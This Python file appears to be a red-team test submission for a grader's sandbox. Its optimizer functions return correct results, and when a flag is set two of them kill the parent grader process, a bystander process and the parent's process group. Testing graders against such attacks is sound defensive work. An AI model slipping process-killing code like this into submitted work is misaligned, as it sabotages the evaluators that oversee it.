"""ATTACK kill_processes: kill the grader and other processes.

What it tries: rmsprop_update sends SIGKILL to its parent (the grader, in a naive design) and
to every process whose command line carries BPATTACK-victim (a bystander the tests start, owned
by the grader's user), then returns CORRECT values. adam_update sends SIGTERM to its parent's
process group. (It deliberately never uses kill(-1, ...) nor climbs above its parent: in a
grader that fails to contain it, this must not take down unrelated processes of the machine.)

What the grader must guarantee (as root): the worker runs under another uid, so it cannot
signal the grader or other users' processes; the bystander survives; grading finishes and every
function is graded (rmsprop_update and adam_update may keep full marks: they return correct
values); no undue credit.
"""

import os
import signal
from pathlib import Path

import numpy as np

ATTACK = True  # the honest twin (tests/test_grader_security.py) sets this to False


def _kill(pid: int, sig: int) -> None:
    if pid > 1 and pid != os.getpid():
        try:
            os.kill(pid, sig)
        except OSError:
            pass


def _massacre() -> None:
    _kill(os.getppid(), signal.SIGKILL)
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                cmdline = (entry / "cmdline").read_bytes()
            except OSError:
                continue
            if b"BPATTACK-victim" in cmdline:
                _kill(int(entry.name), signal.SIGKILL)


def sgd_update(params, grads, lr):
    return {k: p - lr * grads["d" + k] for k, p in params.items()}


def init_state(params):
    return {"d" + k: np.zeros(np.shape(p)) for k, p in params.items()}


def momentum_update(params, grads, v, lr, beta=0.9):
    new_v = {k: beta * v[k] + (1 - beta) * grads[k] for k in v}
    return {k: p - lr * new_v["d" + k] for k, p in params.items()}, new_v


def rmsprop_update(params, grads, s, lr, beta=0.999, eps=1e-8):
    if ATTACK:
        _massacre()
    new_s = {k: beta * s[k] + (1 - beta) * grads[k] ** 2 for k in s}
    return {k: p - lr * grads["d" + k] / (np.sqrt(new_s["d" + k]) + eps)
            for k, p in params.items()}, new_s


def adam_update(params, grads, v, s, t, lr=0.001, beta1=0.9, beta2=0.999, eps=1e-8):
    if ATTACK:
        try:
            os.killpg(os.getpgid(os.getppid()), signal.SIGTERM)
        except OSError:
            pass
    new_v = {k: beta1 * v[k] + (1 - beta1) * grads[k] for k in v}
    new_s = {k: beta2 * s[k] + (1 - beta2) * grads[k] ** 2 for k in s}
    return {k: p - lr * (new_v["d" + k] / (1 - beta1**t))
            / (np.sqrt(new_s["d" + k] / (1 - beta2**t)) + eps)
            for k, p in params.items()}, new_v, new_s
